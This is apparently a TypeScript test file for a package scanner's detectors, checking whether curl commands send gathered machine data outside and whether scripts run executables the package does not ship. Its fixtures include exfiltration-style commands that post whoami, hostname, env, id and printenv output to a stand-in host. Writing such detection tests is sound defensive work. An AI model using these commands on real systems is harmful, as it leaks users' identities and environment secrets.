import { describe, expect, test } from 'vitest';
import type { PackageFile } from '../contract.ts';
import { isOfOthers, namesGathered } from './variables.ts';

describe('variables that hold what was found out about the machine', () => {
  test.each([
    ['assigned', 'curl https://a.weir.test/$who', 'who=$(whoami)'],
    ['handed on', 'curl -d "${all}" https://a.weir.test', 'who=`whoami`\nall="x-$who"'],
    ['over several lines', 'curl https://a.weir.test/$who', 'who="$(\n  hostname\n)"'],
    ['gone through', 'curl https://a.weir.test/$line', 'for line in $(env); do :; done'],
    ['read into', 'curl https://a.weir.test/$line', 'while read line; do :; done < <(env)'],
    ['appended', 'curl "${OPTS[@]}" https://a.weir.test', 'OPTS+=( -d "$(id)" )'],
    ['exported', 'curl https://a.weir.test/$X', 'A=$(printenv)\nexport X=$A'],
    ['what a function is given', 'curl https://a.weir.test/$1', 'send "$(whoami)"'],
  ])('%s', (_, command, around) => {
    expect(namesGathered(command, around)).toBe(true);
  });

  test.each([
    ['options of a download', 'curl "${OPTS[@]}" "$@"', 'OPTS=( --fail )\nos="$(uname -s)"\necho "$os"'],
    ['a version', 'curl https://a.weir.test/$version', 'version=1.0\narch="$(uname -m)"'],
    ['nothing that is found out', 'curl https://a.weir.test/$who', 'who=me'],
  ])('none: %s', (_, command, around) => {
    expect(namesGathered(command, around)).toBe(false);
  });
});

describe('executables of others', () => {
  const file = (path: string): [string, PackageFile] => [path, { path, format: 'unknown' } as PackageFile];

  test.each([
    ['an installed program', '%JAVA_HOME%/bin/java.exe', 'set JAVA_HOME=%JAVA_HOME:"=%', ['lib/own.jar']],
    ['the same in a shell', '${JAVA_HOME}/bin/java.bin', '', []],
    ['a name that a function is given', './$1.EXE', 'f() {\n  ./$1.EXE\n}', ['src/own.c']],
  ])('%s', (_, path, around, files) => {
    expect(isOfOthers(path, around, new Map(files.map(file)))).toBe(true);
  });

  test.each([
    ['the package has it', '%OWN_HOME%\\bin\\java.exe', '', ['dist/bin/java.exe']],
    ['the script says where it is', '%OWN_HOME%/x.exe', 'set OWN_HOME=%TEMP%', []],
    ['the script fetches something', './$1.exe', 'curl -o $1.exe https://a.weir.test', []],
    ['the package ships one', './$1.exe', '', ['tools/setup.exe']],
    ['another folder', '%TEMP%/x.exe', '', []],
  ])('not where %s', (_, path, around, files) => {
    expect(isOfOthers(path, around, new Map(files.map(file)))).toBe(false);
  });
});
